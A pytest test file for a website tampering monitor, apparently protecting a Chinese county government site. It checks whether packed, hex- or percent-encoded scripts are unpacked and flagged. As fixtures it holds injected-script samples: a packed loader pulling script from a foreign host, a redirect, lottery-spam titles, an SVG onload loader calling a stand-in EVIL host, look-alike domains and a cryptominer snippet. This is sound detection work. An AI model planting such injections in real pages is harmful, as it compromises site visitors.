"""What is packed, encoded or taken from strangers: judged by what comes out of it, and by whom it pretends to be."""

import pytest

from fjgov_tui.monitor.checks.integrity import accepted, compare, new_scripts
from fjgov_tui.monitor.checks.views import inline_of
from fjgov_tui.observed.pages import Json
from fjgov_tui.pages.answers import alarms_of, part
from fjgov_tui.pages.scripts import script_of
from fjgov_tui.pages.shot import shot_of
from fjgov_tui.pages.tampering import integrity
from fjgov_tui.pages.unpacking import unpacked
from tests.pages.cms import SITE
from tests.pages.tampered import EVIL, look, sound

PACKER = (
    "eval(function(p,a,c,k,e,r){e=function(c){return c.toString(a)};if(!''.replace(/^/,String)){while(c--)r[e(c)]=k[c]"
    "||e(c);k=[function(e){return r[e]}];e=function(){return'\\\\w+'};c=1};while(c--)if(k[c])p=p.replace(new RegExp("
    "'\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('%s',62,%d,'%s'.split('|'),0,{}))"
)
"""As the packer writes it; text, number of words, words."""
HONEST = PACKER % ("0.1(\\'2\\').3()", 4, "document|getElementById|menu|focus")
FOREIGN = PACKER % ("0.1(\\'<2 3=//4.5.6/7.8></2>\\')", 9, "document|write|script|src|bc888|example|top|a|js")
LEADING = PACKER % ("0.1=\\'2://3.4.5/\\'", 6, "location|href|http|bc888|example|top")
NAMING = PACKER % ("0.1=\\'六合彩开奖\\'", 2, "document|title")


def codes(text: str) -> str:
    return "String.fromCharCode(" + ",".join(str(ord(one)) for one in text) + ")"


def escaped(text: str) -> str:
    return "".join(f"\\x{ord(one):02x}" for one in text)


def percent(text: str) -> str:
    return "".join(f"%{ord(one):02X}" for one in text)


def grave(html: str) -> list[str]:
    """The rules of what is a violation at first sight."""
    return [one.rule for one in look(html)[1] if one.severity == "violation"]


def grave_later(html: str) -> list[str]:
    """The same against the sound page."""
    base = look(sound())[0]
    about: dict[str, Json] = {"url": f"{SITE}/", "content_type": "text/html; charset=utf-8", "site": f"{SITE}/"}
    answer = integrity(html.encode(), about)
    now = shot_of(part(answer, "shot"))
    alarms = [alarm for alarm in alarms_of(answer, "alarms") if not accepted(alarm, now, base)]
    alarms += [*compare(base, now), *new_scripts(base, inline_of(answer.get("scripts")))]
    return [alarm.rule for alarm in alarms if alarm.severity == "violation"]


def test_a_packed_script_is_read_as_what_it_says() -> None:
    assert unpacked(HONEST) == "document.getElementById('menu').focus()"
    assert unpacked(f"var a=1;{HONEST};var b=2;{HONEST}") == (
        "var a=1;document.getElementById('menu').focus();var b=2;document.getElementById('menu').focus()"
    )
    assert script_of(f"eval({codes(HONEST)})").inside.solved.strip(";") == "document.getElementById('menu').focus()"


@pytest.mark.parametrize("broken", [HONEST.replace(",62,", ",99,"), HONEST[:-60], HONEST.replace("'.split", "'.chop")])
def test_one_that_does_not_open_stays_a_violation(broken: str) -> None:
    assert unpacked(broken) == broken
    assert grave(sound(f"<script>{broken}</script>")) == ["script"]


def test_what_comes_out_never_grows_without_bound() -> None:
    bomb = PACKER % ("0 " * 1000, 1, "x" * 1000)
    assert unpacked(bomb) == bomb


@pytest.mark.parametrize(
    "script",
    [
        HONEST,
        f"document.write({codes('<a href=mailto:xxb@fengjie.example>网站邮箱</a>')});",
        f"var _0x1=['{escaped('getItem')}','{escaped('elder')}','{escaped('name')}'];"
        "if(localStorage[_0x1[0x0]](_0x1[0x1])){document[_0x1[0x2]]=_0x1[0x1]}",
        f"document.write(unescape('{percent('<script src=/js/rili.js></script>')}'));",
    ],
    ids=["packed", "codes", "hex", "percent"],
)
def test_an_honest_script_that_is_packed_is_no_violation(script: str) -> None:
    assert grave(sound(f"<script>{script}</script>")) == []
    assert grave_later(sound(f"<script>{script}</script>")) == []


def test_a_packed_library_names_its_author_and_takes_no_script_from_him() -> None:
    named = PACKER % ("0.1=\\'2://3.4/\\'", 5, "jQuery|home|http|yunshan-soft|example")
    assert grave(sound(f"<script>{named}</script>")) == []
    taken = PACKER % ("0.1(\\'<2 3=//4.5/6.7></2>\\')", 8, "document|write|script|src|yunshan-soft|example|jquery|js")
    assert grave(sound(f"<script>{taken}</script>")) == ["script"]


def test_of_an_honest_one_that_is_packed_it_is_told_that_it_is_there() -> None:
    (alarm,) = look(sound(f"<script>{HONEST}</script>"))[1]
    assert (alarm.rule, alarm.severity) == ("script", "warning")


def test_a_host_without_a_name_is_one_too_where_it_can_be_reached() -> None:
    calls = "<script>var at = '{}/api/';</script>"
    assert grave_later(sound(calls.format("http://203.0.113.9:8080"))) == ["script"]
    assert grave_later(sound(calls.format("http://172.16.10.74:8080"))) == []


@pytest.mark.parametrize(
    "html",
    [
        f"<script>{FOREIGN}</script>",
        f"<script>{LEADING}</script>",
        f"<script>{NAMING}</script>",
        f"<script>document.write(unescape('{percent(f'<script src={EVIL}/a.js></script>')}'));</script>",
        f"<svg onload=\"z=document.createElement('script');z.src={codes(EVIL)};document.body.append(z)\"></svg>",
    ],
    ids=["packed script", "packed redirect", "packed title", "percent", "handler"],
)
def test_a_foreign_address_that_nobody_can_read_is_a_violation(html: str) -> None:
    assert grave(sound(html)) != []
    assert grave_later(sound(html)) != []


PAIRS = {
    "look-alike": ("<script src='//push.zhanzhang.baidv.example/push.js'></script>",
                   "<script src='//zz.bdstatic.com/linksubmit/push.js'></script>"),
    "another's name": ("<script src='//code.jquery-min.example/jquery.js'></script>",
                       "<script src='//code.yunshan-media.example/jquery.js'></script>"),
    "a name in front": ("<script src='//hm.baidu.com.tj88.example/hm.js'></script>",
                        "<script src='//hm.baidu.com/hm.js'></script>"),
    "glued to titles": (f"<a href='/1.html'>县委理论学习\"></title><script src={EVIL}/x.js></script></a>",
                        f"<script src={EVIL}/x.js></script><a href='/1.html'>县委理论学习</a>"),
    "again and again": (f"<p><script src={EVIL}/x.js></script></p>" * 3,
                        f"<p><script src={EVIL}/x.js></script></p>"),
    "miner": ("<script>var m=new CoinLib.Anonymous('k7Yq0aTzv3',{throttle:0.3});m.start();</script>",
              "<script>var r=new Reader.Voice('fengjie',{rate:0.9});r.bind();</script>"),
    "for one browser": (f"<!--[if IE]><object type='text/x-scriptlet' data='{EVIL}/ie.htm'></object><![endif]-->",
                        "<!--[if IE]><object type='text/x-scriptlet' data='/ie.htm'></object><![endif]-->"),
    "a point": (f"<p>电话：0599-8822345<a href='{EVIL}/'>.</a></p>",
                "<p>电话：0599-8822345<a href='/lx.html'>.</a></p>"),
    "gov in a name": ("<a href='http://www.lnzwfw-gov.example/'>政务服务网</a>",
                      "<a href='http://www.e-gov.example/'>电子政务网</a>"),
    "sheet": ("<style>a{x:expression(this.o?0:(this.o=1,document.body.insertAdjacentHTML('beforeEnd','x')))}</style>",
              "<style>a{_top:expression(eval(document.documentElement.scrollTop+120));}</style>"),
}  # fmt: skip
"""What a page takes from strangers, and what resembles it."""


@pytest.mark.parametrize(("attack", "twin"), PAIRS.values(), ids=PAIRS.keys())
def test_at_first_sight(attack: str, twin: str) -> None:
    assert grave(sound(attack)) != []
    assert grave_later(sound(attack)) != []
    assert grave(sound(twin)) == []


def test_what_was_accepted_of_these_is_told_no_more() -> None:
    for name in ("look-alike", "again and again", "a point", "gov in a name"):
        base, alarms = look(sound(PAIRS[name][0]))
        assert [one for one in alarms if one.severity == "violation" and not accepted(one, base, base)] == [], name
